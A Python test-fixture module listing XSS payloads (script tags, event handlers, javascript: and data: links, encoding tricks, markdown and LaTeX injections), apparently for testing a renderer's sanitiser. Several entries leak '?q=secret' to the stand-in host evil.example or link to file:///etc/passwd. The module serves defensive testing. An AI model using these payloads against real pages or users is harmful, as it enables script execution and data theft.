"""Texts that have run as scripts, or fetched something, somewhere. Each says `window.__xss = 1` where it would run, and
`evil.example` where it would lead."""

RUN = "window.__xss=1;alert(1)"

HTML = [
    "<script>RUN</script>", "<ScRiPt>RUN</sCrIpT>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=RUN>",
    "<img src=\"x\" onerror=\"RUN\">", "<img/src=x/onerror=RUN>", "<img src='//evil.example/pixel?q=secret'>",
    "<svg onload=RUN>", "<svg><script>RUN</script></svg>", "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=RUN>#x'>", "<iframe srcdoc=\"<script>parent.RUN</script>\"></iframe>",
    "<iframe src=javascript:parent.RUN></iframe>", "<body onload=RUN>", "<details open ontoggle=RUN><summary>x</summary></details>",
    "<video><source onerror=RUN></video>", "<audio src=x onerror=RUN>", "<input autofocus onfocus=RUN>",
    "<style>@import '//evil.example/x.css'; body{background:url(//evil.example/b)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<base href=//evil.example/>", "<form action=//evil.example><button autofocus>x</button></form>",
    "<object data=javascript:RUN></object>", "<embed src=javascript:RUN>", "</textarea><script>RUN</script>",
    "</title><script>RUN</script>", "</template><img src=x onerror=RUN>", "<!--<img src=\"--><img src=x onerror=RUN>\">",
    "<![CDATA[<img src=x onerror=RUN>]]>", "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN>", "<p/onclick=RUN>x</p>",
    "<a href=\"javascript:RUN\">x</a>", "<a\n href=\"javascript:RUN\">x</a>", "<<script>RUN//<</script>",
    "&lt;script&gt;RUN&lt;/script&gt;", "&#60;img src=x onerror=RUN&#62;", "<x onpointerrawupdate=RUN style=animation-name:x>",
    "<chat-message id=message-x data-role=user></chat-message><copy-button></copy-button>", "<template id=message><img src=x onerror=RUN></template>",
]

LINKS = [
    "[x](javascript:RUN)", "[x](JaVaScRiPt:RUN)", "[x](java\tscript:RUN)", "[x](java&Tab;script:RUN)",
    "[x](java&NewLine;script:RUN)", "[x](javascript&colon;RUN)", "[x](&#106;avascript:RUN)", "[x](<javascript:RUN>)",
    "[x](\u0001javascript:RUN)", "[x](%6Aavascript:RUN)", "[x](data:text/html,<script>RUN</script>)",
    "[x](DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](vbscript:RUN)", "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/c)", "[x](//evil.example)", "[x](/\\evil.example)", "<javascript:RUN>", "<data:text/html,x>",
    "[x][y]\n\n[y]: javascript:RUN", "[y]\n\n[y]: <java&#9;script:RUN>", "[x](https://evil.example \"\\\" onmouseover=RUN\")",
    "[<img src=x onerror=RUN>](https://evil.example)", "[![x](javascript:RUN)](javascript:RUN)",
    "https://evil.example/'><script>RUN</script>", "[x](mailto:a@evil.example?subject=<script>RUN</script>)",
]

FETCHING = [
    "![x](https://evil.example/?q=secret)", "![x][y]\n\n[y]: https://evil.example/?q=secret", "![x](//evil.example/?q=secret)",
    "[![x](https://evil.example/?q=1)](https://evil.example)", "![x](https://evil.example/\"onerror=\"RUN)",
    "![](data:image/svg+xml,<svg/onload=RUN>)", "https://evil.example/x.png", "<https://evil.example/x.png>",
]

MIXED = [
    "```<script>\nRUN\n```", "```\"onload=RUN\n</code></pre><script>RUN</script>\n```", "````\n```\n<script>RUN</script>\n````",
    "`<script>RUN</script>`", "    <script>RUN</script>", "```html\n<img src=x onerror=RUN>\n```", "$<script>RUN</script>$",
    "$\\href{javascript:RUN}{x}$", "$$\\includegraphics{https://evil.example/x.png}$$", "$\\htmlStyle{background:url(//evil.example)}{x}$",
    "$\\htmlData{x=1}{y}$", "$$</div><img src=x onerror=RUN>$$", "\\(<img src=x onerror=RUN>\\)",
    "| <script>RUN</script> | [x](javascript:RUN) |\n|-|-|\n| <img src=x onerror=RUN> | ![](//evil.example) |",
    "# <img src=x onerror=RUN>", "> <svg onload=RUN>", "- [ ] <input onfocus=RUN autofocus>", "**<b onclick=RUN>**",
    "&amp;lt;script&amp;gt;RUN", "\u202e<script>RUN</script>", "{{constructor.constructor('RUN')()}}", "${RUN}",
]

ALL = [text.replace("RUN", RUN) for text in HTML + LINKS + FETCHING + MIXED]

# What fits a title, a name: one line, not long.
SHORT = [
    "<script>window.__xss=1</script>", "<img src=x onerror=window.__xss=1>", "\"><svg onload=window.__xss=1>",
    "</title><script>window.__xss=1</script>", "' autofocus onfocus=window.__xss=1 '", "{{{html}}} {{> head}}",
    "&lt;img src=x onerror=window.__xss=1&gt;", "javascript:window.__xss=1", "<img src=//evil.example/x>",
]
